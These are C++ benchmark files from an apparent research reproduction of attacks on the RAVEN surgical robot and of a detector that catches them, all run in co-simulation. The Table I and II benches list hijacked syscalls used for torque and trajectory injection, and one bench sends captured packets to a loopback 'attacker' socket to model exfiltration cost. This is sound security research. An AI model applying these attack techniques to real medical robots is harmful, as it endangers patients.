    pool.emplace_back([&stop] {
      while (!stop.load(std::memory_order_relaxed)) {
        RG_SPAN("bench.snapshot_writer");
        RG_COUNT("rg.bench.snapshot_writer", 1);
      }
    });
  }

  // Warm up: let every writer thread create its shard before timing.
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  for (int i = 0; i < 8; ++i) (void)obs::Registry::global().snapshot();

  std::vector<double> ns;
  ns.reserve(static_cast<std::size_t>(samples));
  for (int i = 0; i < samples; ++i) {
    const auto start = Clock::now();
    const obs::MetricsSnapshot snap = obs::Registry::global().snapshot();
    const auto elapsed =
        std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - start).count();
    // Keep the snapshot alive past the stop so the compiler cannot hoist it.
    if (snap.counters.size() > obs::Registry::kMaxCounters) std::abort();
    ns.push_back(static_cast<double>(elapsed));
  }
  stop.store(true);
  for (std::thread& t : pool) t.join();

  std::sort(ns.begin(), ns.end());
  SnapshotUnderWriters out;
  out.samples = samples;
  out.writers = writers;
  if (!ns.empty()) {
    out.p50_ns = ns[ns.size() / 2];
    out.p99_ns = ns[std::min(ns.size() - 1, ns.size() * 99 / 100)];
  }
  return out;
}

std::string bench_path() {
  if (const char* env = std::getenv("RG_BENCH_OBS_JSON")) return env;
  return "BENCH_obs.json";
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
#ifdef RG_OBS_DISABLED
  const bool compiled_out = true;
#else
  const bool compiled_out = false;
#endif
  bench::header(compiled_out
                    ? "Telemetry overhead on the control loop (RG_OBS_DISABLED build)"
                    : "Telemetry overhead on the control loop (instrumented build)");

  const double measure_sec = 3.0 * bench::scale();
  const double warmup_sec = 0.5;

  // Quiet: instrumentation active (registry shard writes), no sinks.
  double tick_quiet = 0.0;
  {
    SurgicalSim sim(overhead_session());
    tick_quiet = measure_tick_ns(sim, warmup_sec, measure_sec);
  }

  // Full sinks: everything --metrics-out/--trace-out/--events-out attaches.
  double tick_full = 0.0;
  std::size_t trace_events = 0;
  {
    SurgicalSim sim(overhead_session());
    obs::TraceWriter writer;
    writer.install();
    obs::EventLog events;
    obs::attach_log_events(&events);
    obs::FlightRecorder flight;
    TraceRecorder trace(256);
    sim.set_event_log(&events);
    sim.set_flight_recorder(&flight);
    sim.set_trace(&trace);
    tick_full = measure_tick_ns(sim, warmup_sec, measure_sec);
    writer.uninstall();
    obs::attach_log_events(nullptr);
    trace_events = writer.events();
  }

  const double span_ns = measure_span_ns(1'000'000);
  const double count_ns = measure_count_ns(1'000'000);
  const double sink_overhead_pct =
      tick_quiet > 0.0 ? 100.0 * (tick_full - tick_quiet) / tick_quiet : 0.0;

  // Admin-plane gate: snapshot() under 8 concurrent writers must stay
  // well under the 10 ms budget (an off-tick-path poll every second).
  constexpr double kSnapshotBudgetNs = 10'000'000.0;
  const int snapshot_samples = bench::scale() >= 1.0 ? 400 : 100;
  const SnapshotUnderWriters snap = measure_snapshot_under_writers(8, snapshot_samples);
  const bool snapshot_pass = snap.p99_ns <= kSnapshotBudgetNs;

  std::printf("  mode                : %s\n", compiled_out ? "compiled-out" : "enabled");
  std::printf("  tick, quiet         : %10.0f ns\n", tick_quiet);
  std::printf("  tick, full sinks    : %10.0f ns  (%+.2f%%, %zu trace events)\n", tick_full,
              sink_overhead_pct, trace_events);
  std::printf("  RG_SPAN             : %10.1f ns\n", span_ns);
  std::printf("  RG_COUNT            : %10.1f ns\n", count_ns);
  std::printf("  snapshot, %d writers: %10.0f ns p50, %10.0f ns p99  [%s]\n", snap.writers,
              snap.p50_ns, snap.p99_ns, snapshot_pass ? "pass" : "FAIL");
  if (compiled_out) {
    std::printf("  (compare tick-quiet against the instrumented build: the\n"
                "   acceptance bar is <= 1%% delta for the compiled-out path)\n");
  }

  const std::string path = bench_path();
  std::ofstream os(path);
  if (os) {
    os.precision(17);
    os << "{\n  \"schema\": \"rg.bench.obs/2\",\n";
    os << "  \"obs_compiled_out\": " << (compiled_out ? "true" : "false") << ",\n";
    os << "  \"tick_ns_quiet\": " << tick_quiet << ",\n";
    os << "  \"tick_ns_full_sinks\": " << tick_full << ",\n";
    os << "  \"sink_overhead_pct\": " << sink_overhead_pct << ",\n";
    os << "  \"span_ns\": " << span_ns << ",\n";
    os << "  \"count_ns\": " << count_ns << ",\n";
    os << "  \"snapshot_under_writers\": {\"writers\": " << snap.writers
       << ", \"samples\": " << snap.samples << ", \"p50_ns\": " << snap.p50_ns
       << ", \"p99_ns\": " << snap.p99_ns << "},\n";
    os << "  \"snapshot_budget_ns\": " << kSnapshotBudgetNs << ",\n";
    os << "  \"pass\": " << (snapshot_pass ? "true" : "false") << "\n";
    os << "}\n";
    std::printf("  results             : %s\n", path.c_str());
  }
  return snapshot_pass ? 0 : 1;
}
