// ROC STUDY (extension): the detector's full operating curve.
//
// Table IV reports one operating point (the 99.85th-percentile
// thresholds, all-3 fusion).  This bench sweeps a margin factor over the
// learned thresholds for each fusion policy and traces TPR vs FPR on a
// fixed scenario-B grid — showing where the paper's point sits on the
// curve and what any-1/2-of-3 fusion would buy or cost.  Writes
// roc_detector.svg.
#include <cstdio>
#include <fstream>
#include <vector>

#include "bench_util.hpp"
#include "sim/metrics.hpp"
#include "viz/svg.hpp"

namespace rg {
namespace {

ConfusionMatrix evaluate(FusionPolicy fusion, double margin,
                         const DetectionThresholds& base, int reps) {
  DetectionThresholds th = base;
  for (std::size_t i = 0; i < 3; ++i) {
    th.motor_vel[i] *= margin;
    th.motor_acc[i] *= margin;
    th.joint_vel[i] *= margin;
  }
  const double values[] = {4000, 10000, 16000, 22000, 28000};
  const std::uint32_t periods[] = {8, 32, 128};
  std::vector<CampaignJob> jobs;
  int n = 0;
  for (double value : values) {
    for (std::uint32_t period : periods) {
      for (int rep = 0; rep < reps; ++rep) {
        CampaignJob job;
        job.attack.variant = AttackVariant::kTorqueInjection;
        job.attack.magnitude = value;
        job.attack.duration_packets = period;
        job.attack.delay_packets = 350 + static_cast<std::uint32_t>(rep) * 119;
        job.attack.seed = 30000 + static_cast<std::uint64_t>(n) * 7;
        job.params = bench::standard_session();
        job.params.seed = 8000 + static_cast<std::uint64_t>(rep) * 53;
        job.params.fusion = fusion;
        job.thresholds = th;
        jobs.push_back(std::move(job));
        ++n;
      }
    }
  }
  ConfusionMatrix cm;
  for (const CampaignJobResult& r : bench::run_campaign(std::move(jobs)).results) {
    cm.add(r.run.impact(), r.run.outcome.detector_alarmed());
  }
  return cm;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("ROC STUDY: TPR vs FPR over threshold margin, per fusion policy");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(6);
  const double margins[] = {0.4, 0.6, 0.8, 1.0, 1.3, 1.7, 2.2, 3.0};

  SvgChart chart("Detector ROC (scenario B grid)", "FPR", "TPR");
  chart.set_y_range(0.0, 1.05);

  std::size_t color = 0;
  for (FusionPolicy fusion :
       {FusionPolicy::kAnyVariable, FusionPolicy::kTwoOfThree, FusionPolicy::kAllThree}) {
    std::printf("\n  fusion %s:\n  %8s %8s %8s\n", std::string{to_string(fusion)}.c_str(),
                "margin", "TPR%", "FPR%");
    Series series;
    series.label = std::string{to_string(fusion)};
    series.color = series_color(color++);
    for (double margin : margins) {
      const ConfusionMatrix cm = evaluate(fusion, margin, thresholds, reps);
      std::printf("  %8.1f %8.1f %8.1f\n", margin, 100.0 * cm.tpr(), 100.0 * cm.fpr());
      series.x.push_back(cm.fpr());
      series.y.push_back(cm.tpr());
    }
    chart.add_series(std::move(series));
  }

  std::ofstream os("roc_detector.svg");
  chart.render(os);
  std::printf("\n  curve written to roc_detector.svg\n");
  std::printf("  Expected: all-3 fusion hugs the low-FPR shoulder; any-1 reaches the\n"
              "  same TPR only at far higher FPR — the paper's fusion rule is the\n"
              "  sensible operating point.\n");
  return 0;
}
