// TABLE I reproduction: variants of attacks on the robot control
// structure and their observed impact.
//
// Paper Table I maps each attack (by target layer and hijacked library
// call) to its observed impact: trajectory hijack, unwanted E-STOP,
// IK-fail halt, homing failure, abrupt jump.  We deploy each variant on
// the co-simulation and report what actually happened.
#include <cstdio>
#include <iterator>
#include <string>
#include <vector>

#include "bench_util.hpp"

namespace rg {
namespace {

struct VariantRow {
  AttackVariant variant;
  const char* layer;
  const char* hijacked_call;
  const char* paper_impact;
  double magnitude;
  std::uint32_t duration;
  std::uint32_t delay;
};

std::string observed_impact(const AttackRunResult& r, AttackVariant variant) {
  std::string s;
  if (r.outcome.max_ee_jump_window > 1.0e-3) {
    s += "abrupt jump (" + std::to_string(r.outcome.max_ee_jump_window * 1000.0) + " mm)";
  }
  if (r.outcome.cable_snapped) s += (s.empty() ? "" : ", ") + std::string("cable snapped");
  if (r.outcome.raven_fault_tick) {
    s += (s.empty() ? "" : ", ") + std::string("software fault -> E-STOP");
  } else if (r.outcome.plc_estop_tick) {
    s += (s.empty() ? "" : ", ") + std::string("PLC E-STOP");
  }
  if (s.empty()) {
    if (variant == AttackVariant::kConsoleDrop) {
      s = r.injections > 0 ? "console silenced; robot holds (unavailable)" : "no effect";
    } else if (variant == AttackVariant::kTrajectoryHijack) {
      s = "trajectory hijacked (motion not commanded by operator)";
    } else {
      s = "no observable effect";
    }
  }
  return s;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("TABLE I: Attack variants on the control structure and observed impact");

  const VariantRow rows[] = {
      {AttackVariant::kTrajectoryHijack, "Console<->Control", "recvfrom",
       "Hijack trajectory", 0.008, 1500, 200},
      {AttackVariant::kConsoleDrop, "Console<->Control", "recvfrom (port change)",
       "Unwanted state (E-STOP)", 0.0, 0, 0},
      {AttackVariant::kUserInputInjection, "Console<->Control", "recvfrom",
       "Unintended motion / jump", 2.0e-4, 128, 300},
      {AttackVariant::kMathDrift, "Control software", "sin/cos (libm)",
       "Unwanted state (IK-fail)", 5.0e-7, 0, 0},
      {AttackVariant::kStateSpoof, "SW<->HW interface", "read",
       "Homing failure", 0.0, 0, 0},
      {AttackVariant::kTorqueInjection, "SW<->Physical robot", "write",
       "Abrupt jump / E-STOP", 24000.0, 128, 400},
      {AttackVariant::kEncoderCorruption, "SW<->Physical robot", "read",
       "Abrupt jump / E-STOP", 800.0, 128, 2500},
  };

  std::vector<CampaignJob> jobs;
  for (const VariantRow& row : rows) {
    CampaignJob job;
    job.attack.variant = row.variant;
    job.attack.magnitude = row.magnitude;
    job.attack.duration_packets = row.duration;
    job.attack.delay_packets = row.delay;

    job.params = bench::standard_session();
    job.params.seed = 77 + static_cast<std::uint64_t>(row.variant);
    if (row.variant == AttackVariant::kMathDrift) job.params.duration_sec = 8.0;
    job.label = row.hijacked_call;
    jobs.push_back(std::move(job));
  }
  // The campaign executor resets the math-drift hook around every job, so
  // the kMathDrift row no longer needs a manual reset_math_drift() here.
  const CampaignReport report = bench::run_campaign(std::move(jobs));

  std::printf("\n  %-22s %-24s %-26s -> observed\n", "Target layer", "Hijacked call",
              "Paper's reported impact");
  for (std::size_t i = 0; i < std::size(rows); ++i) {
    const VariantRow& row = rows[i];
    const AttackRunResult& r = report.results[i].run;
    std::printf("  %-22s %-24s %-26s -> %s\n", row.layer, row.hijacked_call,
                row.paper_impact, observed_impact(r, row.variant).c_str());
  }

  std::printf("\n  All attacks preserve command format/syntax; none require root.\n");
  return 0;
}
