// TABLE II reproduction: performance overhead of the malicious system
// call wrappers.
//
// Paper setup: 50,000 invocations of the write system call in the RAVEN
// process, measured (a) baseline, (b) with the logging wrapper (process
// name + fd check, then forwarding a copy of the USB buffer to the
// attacker over UDP), (c) with the injection wrapper (trigger check on
// Byte 0 + in-place byte overwrite).
//
// We measure the same three operations for real: a genuine write(2) to
// /dev/null as the baseline syscall, a genuine sendto(2) of the captured
// packet toward a blackholed local UDP endpoint for the exfiltration
// cost, and the actual InjectionWrapper code for the injection cost.
// Absolute numbers depend on the host; the paper's *shape* — injection
// overhead tiny, logging overhead dominated by the extra UDP send, both
// far inside the 1 ms control budget — is what must reproduce.
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <vector>

#include "attack/injection_wrapper.hpp"
#include "attack/logging_wrapper.hpp"
#include "bench_util.hpp"
#include "hw/usb_packet.hpp"
#include "math/stats.hpp"

namespace rg {
namespace {

using Clock = std::chrono::steady_clock;

CommandBytes sample_packet(bool pedal_down) {
  CommandPacket pkt;
  pkt.state = pedal_down ? RobotState::kPedalDown : RobotState::kPedalUp;
  pkt.dac = {120, -340, 560, -780, 0, 0, 0, 0};
  return encode_command(pkt);
}

struct Timing {
  RunningStats stats_us;
};

template <typename F>
Timing measure(int iterations, F&& op) {
  Timing t;
  for (int i = 0; i < iterations; ++i) {
    const auto start = Clock::now();
    op(i);
    const auto stop = Clock::now();
    t.stats_us.add(std::chrono::duration<double, std::micro>(stop - start).count());
  }
  return t;
}

void print_row(const char* name, const Timing& t) {
  std::printf("  %-28s %8.2f %8.2f %8.2f %8.2f\n", name, t.stats_us.min(), t.stats_us.max(),
              t.stats_us.mean(), t.stats_us.stddev());
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "TABLE II: Performance overhead of malicious system call wrappers\n"
      "(50,000 write invocations; microseconds)");

  const int iters = bench::reps(50000);
  CommandBytes pkt = sample_packet(true);

  // --- Baseline: the real write(2) syscall -------------------------------
  const int devnull = ::open("/dev/null", O_WRONLY);
  if (devnull < 0) {
    std::perror("open /dev/null");
    return 1;
  }
  const Timing baseline = measure(iters, [&](int) {
    (void)!::write(devnull, pkt.data(), pkt.size());
  });

  // --- Logging wrapper: filter + copy + UDP exfiltration + original write
  const int sock = ::socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in attacker{};
  attacker.sin_family = AF_INET;
  attacker.sin_port = htons(9);  // discard port; nothing listens, UDP doesn't care
  attacker.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  LoggingWrapper logger("r2_control", devnull, "r2_control", devnull);
  const Timing logging = measure(iters, [&](int) {
    (void)logger.on_packet(pkt, 0);  // process/fd check + capture copy
    (void)::sendto(sock, pkt.data(), pkt.size(), 0,
                   reinterpret_cast<const sockaddr*>(&attacker),  // rg-lint: allow(cast)
                   sizeof(attacker));
    (void)!::write(devnull, pkt.data(), pkt.size());
    if (logger.packets_captured() > 4096) logger.clear();  // bounded buffer
  });

  // --- Injection wrapper: trigger check + byte overwrite + original write
  InjectionConfig cfg;
  cfg.mode = InjectionConfig::Mode::kAddChannel;
  cfg.target_channel = 1;
  cfg.value = 77;
  cfg.duration_packets = 0;  // unbounded so every call takes the full path
  InjectionWrapper injector(cfg);
  const Timing injection = measure(iters, [&](int) {
    (void)injector.on_packet(pkt, 0);
    (void)!::write(devnull, pkt.data(), pkt.size());
  });

  std::printf("\n  %-28s %8s %8s %8s %8s\n", "Time (us)", "Min", "Max", "Mean", "Std");
  print_row("Baseline system call", baseline);
  print_row("With wrapper: Logging", logging);
  print_row("With wrapper: Injection", injection);

  std::printf("\n  Logging overhead   : %+7.2f us (paper: +18.7 us, UDP-send dominated)\n",
              logging.stats_us.mean() - baseline.stats_us.mean());
  std::printf("  Injection overhead : %+7.2f us (paper: +2.3 us)\n",
              injection.stats_us.mean() - baseline.stats_us.mean());
  std::printf("  Control budget     : 1000 us per cycle -> overhead %.2f%% (logging), %.2f%% (injection)\n",
              0.1 * (logging.stats_us.mean() - baseline.stats_us.mean()),
              0.1 * (injection.stats_us.mean() - baseline.stats_us.mean()));

  ::close(sock);
  ::close(devnull);
  return 0;
}
