// TABLE IV reproduction: detection performance of the dynamic-model
// detector vs the stock RAVEN safety checks.
//
// Paper: 1,925 simulated runs of attack scenario A (unintended user
// inputs) and 1,361 of scenario B (unintended torque commands); per-run
// ground truth = adverse impact on the physical system; metrics ACC, TPR,
// FPR, F1 for each detector.  Thresholds learned from 600 fault-free runs
// at the 99.8-99.9th percentile; detector fuses motor-accel + motor-vel +
// joint-vel alarms.
//
// Expected shape (not absolute numbers): dynamic-model ACC ~90%, TPR
// higher than RAVEN's (RAVEN only reacts after the physical state is
// corrupted), FPR moderate (~12%) from near-miss injections, and a
// population of impacts only the dynamic model catches.
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "sim/metrics.hpp"

namespace rg {
namespace {

struct ScenarioResult {
  ConfusionMatrix dyn;
  ConfusionMatrix raven;
  int runs = 0;
  int impacts = 0;
  int dyn_only = 0;    // impact runs caught by the model, missed by RAVEN
  int raven_only = 0;  // impact runs caught by RAVEN, missed by the model
  int preemptive = 0;  // model alarms at or before the physical impact
};

template <typename MagnitudeList>
ScenarioResult sweep(AttackVariant variant, const MagnitudeList& magnitudes,
                     const DetectionThresholds& thresholds, int reps_per_cell) {
  const std::uint32_t durations[] = {2, 4, 8, 16, 32, 64, 128, 256, 512};

  // The whole scenario grid as one campaign; per-run seeds are a pure
  // function of grid position, so the result is identical at any --jobs.
  std::vector<CampaignJob> jobs;
  int done = 0;
  for (double magnitude : magnitudes) {
    for (std::uint32_t duration : durations) {
      for (int rep = 0; rep < reps_per_cell; ++rep) {
        CampaignJob job;
        job.attack.variant = variant;
        job.attack.magnitude = magnitude;
        job.attack.duration_packets = duration;
        job.attack.delay_packets = 300 + static_cast<std::uint32_t>(rep) * 113;
        job.attack.seed = 90000 + static_cast<std::uint64_t>(done) * 17;

        job.params = bench::standard_session();
        job.params.seed = 500 + static_cast<std::uint64_t>(rep) * 31 +
                          static_cast<std::uint64_t>(done % 7) * 1009;
        job.thresholds = thresholds;
        jobs.push_back(std::move(job));
        ++done;
      }
    }
  }

  const CampaignReport report = bench::run_campaign(std::move(jobs));

  ScenarioResult out;
  for (const CampaignJobResult& result : report.results) {
    const AttackRunResult& r = result.run;
    const bool truth = r.impact();
    const bool dyn = r.outcome.detector_alarmed();
    const bool raven = r.outcome.raven_detected();
    out.dyn.add(truth, dyn);
    out.raven.add(truth, raven);
    ++out.runs;
    if (truth) {
      ++out.impacts;
      if (dyn && !raven) ++out.dyn_only;
      if (raven && !dyn) ++out.raven_only;
      if (r.outcome.detected_preemptively()) ++out.preemptive;
    }
  }
  return out;
}

void print_rows(const char* scenario, const ScenarioResult& r) {
  std::printf("  %-22s %-14s %6.1f %6.1f %6.1f %6.1f\n", scenario, "Dynamic Model",
              100.0 * r.dyn.accuracy(), 100.0 * r.dyn.tpr(), 100.0 * r.dyn.fpr(),
              100.0 * r.dyn.f1());
  std::printf("  %-22s %-14s %6.1f %6.1f %6.1f %6.1f\n", "", "RAVEN",
              100.0 * r.raven.accuracy(), 100.0 * r.raven.tpr(), 100.0 * r.raven.fpr(),
              100.0 * r.raven.f1());
  std::printf("    runs=%d impacts=%d | model-only detections=%d, RAVEN-only=%d, "
              "preemptive=%d/%d\n",
              r.runs, r.impacts, r.dyn_only, r.raven_only, r.preemptive, r.impacts);
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "TABLE IV: Dynamic-model based detection vs RAVEN safety checks\n"
      "(percent; positives = runs with real physical impact)");

  std::fprintf(stderr, "learning thresholds (cached at %s)...\n",
               bench::threshold_cache_path().c_str());
  const DetectionThresholds thresholds = bench::standard_thresholds();

  // Scenario A: injected user-input increments (m per packet).  Chosen
  // below RAVEN's per-packet increment check (1 mm) — a competent
  // attacker stays under the pre-execution limits, which is exactly the
  // population where RAVEN can only react after the physical state is
  // corrupted (the paper's RAVEN TPR for A is 53%).
  const double mags_a[] = {8e-6, 1.2e-5, 1.8e-5, 2.5e-5, 3.5e-5, 5e-5, 8e-5, 1.3e-4, 2e-4, 3.5e-4};
  // Scenario B: injected DAC offsets (counts).
  const double mags_b[] = {1000, 2000, 4000, 8000, 12000, 16000, 20000, 24000, 28000, 32000};

  // Paper run counts: 1,925 (A) and 1,361 (B) over a 10x9 grid.
  const int reps_a = bench::reps(21);
  const int reps_b = bench::reps(15);

  std::fprintf(stderr, "scenario A sweep (%d runs)...\n", 90 * reps_a);
  const ScenarioResult a =
      sweep(AttackVariant::kUserInputInjection, mags_a, thresholds, reps_a);
  std::fprintf(stderr, "scenario B sweep (%d runs)...\n", 90 * reps_b);
  const ScenarioResult b = sweep(AttackVariant::kTorqueInjection, mags_b, thresholds, reps_b);

  std::printf("\n  %-22s %-14s %6s %6s %6s %6s\n", "Attack Scenario", "Technique", "ACC",
              "TPR", "FPR", "F1");
  print_rows("A (User inputs)", a);
  print_rows("B (Torque commands)", b);

  std::printf("\n  Paper reference:\n");
  std::printf("  A: Dynamic Model ACC 88.0 TPR 89.8 FPR 12.4 F1 74.8 | RAVEN 84.6/53.3/7.7/57.8\n");
  std::printf("  B: Dynamic Model ACC 92.0 TPR 99.8 FPR 11.8 F1 89.1 | RAVEN 90.7/81.0/4.6/85.1\n");
  std::printf("  (152 / 84 impact cases were caught only by the dynamic model; 13 only by RAVEN)\n");

  const double avg_acc = 50.0 * (a.dyn.accuracy() + b.dyn.accuracy());
  std::printf("\n  Average dynamic-model accuracy: %.1f%% (paper: ~90%%)\n", avg_acc);
  return 0;
}
