// Shared helpers for the paper-reproduction bench binaries.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <string>

#include "core/thresholds.hpp"
#include "sim/campaign.hpp"
#include "sim/experiment.hpp"
#include "sim/threshold_store.hpp"

namespace rg::bench {

/// Experiment scale factor from the environment (RG_SCALE, default 1.0).
/// 0.1 runs ~10% of the paper's run counts for a quick smoke pass.
inline double scale() {
  if (const char* env = std::getenv("RG_SCALE")) {
    const double s = std::atof(env);
    if (s > 0.0) return s;
  }
  return 1.0;
}

/// Scaled repetition count (at least 1).
inline int reps(int paper_count) {
  const int n = static_cast<int>(paper_count * scale());
  return n > 0 ? n : 1;
}

/// Campaign worker threads for the benches: RG_JOBS env override, else
/// every hardware thread (sessions are embarrassingly parallel).
inline int jobs() { return default_campaign_jobs(); }

/// Standard campaign options: all workers, progress heartbeat to stderr
/// every `stride` completed sessions.
inline CampaignOptions campaign_options(std::size_t stride = 250) {
  CampaignOptions options;
  options.jobs = jobs();
  options.progress = [stride](const CampaignProgress& p) {
    if (p.completed % stride == 0 || p.completed == p.total) {
      std::fprintf(stderr, "  ... %zu/%zu runs\n", p.completed, p.total);
    }
  };
  return options;
}

/// Run a campaign with the standard options.
inline CampaignReport run_campaign(std::vector<CampaignJob> campaign_jobs,
                                   std::size_t progress_stride = 250) {
  return CampaignRunner(campaign_options(progress_stride)).run(std::move(campaign_jobs));
}

/// The standard session every detection bench shares (same geometry as
/// the thresholds were learned on).
inline SessionParams standard_session() {
  SessionParams p;
  p.seed = 42;
  p.duration_sec = 5.0;
  return p;
}

/// Threshold cache location shared by the benches (learning 600 fault-free
/// runs is the expensive step; Table IV, Fig 9 and the ablations reuse it).
inline std::string threshold_cache_path() {
  if (const char* env = std::getenv("RG_THRESHOLD_CACHE")) return env;
  return "/tmp/raven_guard_thresholds.txt";
}

/// Learn-or-load the standard thresholds (paper: 600 fault-free runs,
/// 99.8-99.9th percentile), learning as a parallel campaign on a miss.
inline DetectionThresholds standard_thresholds() {
  const ThresholdStore store(threshold_cache_path());
  return store.load_or_learn([] {
    LearnOptions options;
    options.jobs = jobs();
    return learn_thresholds(standard_session(), reps(600), options);
  });
}

inline void header(const char* title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title);
  std::printf("================================================================\n");
}

}  // namespace rg::bench
