// Shared helpers for the paper-reproduction bench binaries.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <string>

#include "core/thresholds.hpp"
#include "sim/experiment.hpp"

namespace rg::bench {

/// Experiment scale factor from the environment (RG_SCALE, default 1.0).
/// 0.1 runs ~10% of the paper's run counts for a quick smoke pass.
inline double scale() {
  if (const char* env = std::getenv("RG_SCALE")) {
    const double s = std::atof(env);
    if (s > 0.0) return s;
  }
  return 1.0;
}

/// Scaled repetition count (at least 1).
inline int reps(int paper_count) {
  const int n = static_cast<int>(paper_count * scale());
  return n > 0 ? n : 1;
}

/// The standard session every detection bench shares (same geometry as
/// the thresholds were learned on).
inline SessionParams standard_session() {
  SessionParams p;
  p.seed = 42;
  p.duration_sec = 5.0;
  return p;
}

/// Threshold cache location shared by the benches (learning 600 fault-free
/// runs is the expensive step; Table IV, Fig 9 and the ablations reuse it).
inline std::string threshold_cache_path() {
  if (const char* env = std::getenv("RG_THRESHOLD_CACHE")) return env;
  return "/tmp/raven_guard_thresholds.txt";
}

/// Learn-or-load the standard thresholds (paper: 600 fault-free runs,
/// 99.8-99.9th percentile).
inline DetectionThresholds standard_thresholds() {
  const int learn_runs = reps(600);
  return thresholds_cached(standard_session(), learn_runs, threshold_cache_path());
}

inline void header(const char* title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title);
  std::printf("================================================================\n");
}

}  // namespace rg::bench
