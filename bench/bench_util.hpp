// Shared helpers for the paper-reproduction bench binaries.
#pragma once

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "core/thresholds.hpp"
#include "sim/campaign.hpp"
#include "sim/experiment.hpp"
#include "sim/threshold_store.hpp"

namespace rg::bench {

/// Experiment scale factor from the environment (RG_SCALE, default 1.0).
/// 0.1 runs ~10% of the paper's run counts for a quick smoke pass.
inline double scale() {
  if (const char* env = std::getenv("RG_SCALE")) {
    const double s = std::atof(env);
    if (s > 0.0) return s;
  }
  return 1.0;
}

/// Scaled repetition count (at least 1).
inline int reps(int paper_count) {
  const int n = static_cast<int>(paper_count * scale());
  return n > 0 ? n : 1;
}

/// Campaign worker threads for the benches: RG_JOBS env override, else
/// every hardware thread (sessions are embarrassingly parallel).
inline int jobs() { return default_campaign_jobs(); }

/// Standard campaign options: all workers, progress heartbeat to stderr
/// every `stride` completed sessions.
inline CampaignOptions campaign_options(std::size_t stride = 250) {
  CampaignOptions options;
  options.jobs = jobs();
  options.progress = [stride](const CampaignProgress& p) {
    if (p.completed % stride == 0 || p.completed == p.total) {
      std::fprintf(stderr, "  ... %zu/%zu runs\n", p.completed, p.total);
    }
  };
  return options;
}

/// One row of the BENCH_campaign.json perf log (see record_campaign).
struct CampaignBenchEntry {
  std::size_t sessions = 0;
  int workers = 1;
  double wall_ms = 0.0;
  double sessions_per_sec = 0.0;
  double ticks_per_sec = 0.0;
  double exec_p50_ms = 0.0;
  double exec_p90_ms = 0.0;
  double exec_p99_ms = 0.0;
  double queue_wait_p50_ms = 0.0;
  double queue_wait_p99_ms = 0.0;
};

inline std::vector<CampaignBenchEntry>& campaign_bench_entries() {
  static std::vector<CampaignBenchEntry> entries;
  return entries;
}

/// BENCH_campaign.json destination (RG_BENCH_CAMPAIGN_JSON overrides).
inline std::string campaign_bench_path() {
  if (const char* env = std::getenv("RG_BENCH_CAMPAIGN_JSON")) return env;
  return "BENCH_campaign.json";
}

inline void write_campaign_bench_json() {
  const auto& entries = campaign_bench_entries();
  if (entries.empty()) return;
  std::ofstream os(campaign_bench_path());
  if (!os) return;
  os.precision(17);
  os << "{\n  \"schema\": \"rg.bench.campaign/1\",\n  \"campaigns\": [\n";
  for (std::size_t i = 0; i < entries.size(); ++i) {
    const CampaignBenchEntry& e = entries[i];
    os << "    {\"sessions\": " << e.sessions << ", \"workers\": " << e.workers
       << ", \"wall_ms\": " << e.wall_ms
       << ", \"sessions_per_sec\": " << e.sessions_per_sec
       << ", \"ticks_per_sec\": " << e.ticks_per_sec
       << ", \"exec_p50_ms\": " << e.exec_p50_ms
       << ", \"exec_p90_ms\": " << e.exec_p90_ms
       << ", \"exec_p99_ms\": " << e.exec_p99_ms
       << ", \"queue_wait_p50_ms\": " << e.queue_wait_p50_ms
       << ", \"queue_wait_p99_ms\": " << e.queue_wait_p99_ms << "}"
       << (i + 1 < entries.size() ? ",\n" : "\n");
  }
  os << "  ]\n}\n";
}

/// Log one campaign's throughput/latency telemetry; the accumulated rows
/// are flushed to BENCH_campaign.json when the bench exits, giving every
/// existing bench a perf trajectory for free via run_campaign().
inline void record_campaign(const CampaignReport& report) {
  // Construct the entries vector before registering the atexit hook:
  // handlers registered after a static's initialization run before its
  // destructor, so the flush sees the vector alive at exit.
  std::vector<CampaignBenchEntry>& entries = campaign_bench_entries();
  static const bool registered = [] {
    std::atexit(write_campaign_bench_json);
    return true;
  }();
  (void)registered;
  CampaignBenchEntry e;
  e.sessions = report.jobs();
  e.workers = report.workers;
  e.wall_ms = report.wall_ms;
  e.sessions_per_sec = report.sessions_per_sec();
  e.ticks_per_sec = report.ticks_per_sec();
  e.exec_p50_ms = report.exec_us.percentile(50.0) / 1000.0;
  e.exec_p90_ms = report.exec_us.percentile(90.0) / 1000.0;
  e.exec_p99_ms = report.exec_us.percentile(99.0) / 1000.0;
  e.queue_wait_p50_ms = report.queue_wait_us.percentile(50.0) / 1000.0;
  e.queue_wait_p99_ms = report.queue_wait_us.percentile(99.0) / 1000.0;
  entries.push_back(e);
}

/// Run a campaign with the standard options.
inline CampaignReport run_campaign(std::vector<CampaignJob> campaign_jobs,
                                   std::size_t progress_stride = 250) {
  CampaignReport report =
      CampaignRunner(campaign_options(progress_stride)).run(std::move(campaign_jobs));
  record_campaign(report);
  return report;
}

/// The standard session every detection bench shares (same geometry as
/// the thresholds were learned on).
inline SessionParams standard_session() {
  SessionParams p;
  p.seed = 42;
  p.duration_sec = 5.0;
  return p;
}

/// Threshold cache location shared by the benches (learning 600 fault-free
/// runs is the expensive step; Table IV, Fig 9 and the ablations reuse it).
inline std::string threshold_cache_path() {
  if (const char* env = std::getenv("RG_THRESHOLD_CACHE")) return env;
  return "/tmp/raven_guard_thresholds.txt";
}

/// Learn-or-load the standard thresholds (paper: 600 fault-free runs,
/// 99.8-99.9th percentile), learning as a parallel campaign on a miss
/// and committing the result to the shared epoch store.
